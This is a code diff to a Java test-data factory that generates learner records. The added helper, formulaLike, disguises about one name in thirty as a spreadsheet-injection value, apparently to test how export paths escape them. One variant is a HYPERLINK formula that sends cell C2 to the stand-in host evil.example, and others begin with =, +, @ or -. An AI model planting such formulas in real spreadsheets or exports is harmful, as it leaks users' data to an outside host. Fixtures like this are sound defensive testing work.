@@ -75,8 +75,25 @@ final class LearnerFactory {
             String hash = HexFormat.of().formatHex(Tokens.sha256Bytes((seed + ":" + index).getBytes()), 0, 12);
             return new Learner(id, "retired_user_" + hash, null, null, null, true, false, first, last);
         }
-        return new Learner(id, username, PeoplePool.FIRST[f] + " " + PeoplePool.LAST[l], email,
+        return new Learner(id, username, formulaLike(index, PeoplePool.FIRST[f] + " " + PeoplePool.LAST[l]), email,
                 PeoplePool.country(rng), false, rng.nextDouble() < 0.3, first, last);
+    }
+
+    /**
+     * About one learner in thirty writes their name as people do on the web: "@Amara Obi", "+Amara", "-Amara-",
+     * and one in five of those as a spreadsheet formula, as an attacker would. Every export path meets them (R14).
+     */
+    static String formulaLike(int index, String name) {
+        if (index % 31 != 13) {
+            return name;
+        }
+        return switch ((index / 31) % 5) {
+            case 0 -> "=HYPERLINK(\"http://evil.example/?d=\"&C2,\"" + name + "\")";
+            case 1 -> "@" + name;
+            case 2 -> "+" + name;
+            case 3 -> "-" + name + "-";
+            default -> "=" + name.replace(' ', '+');
+        };
     }
 
     Object[] learnerRow(Learner learner) {
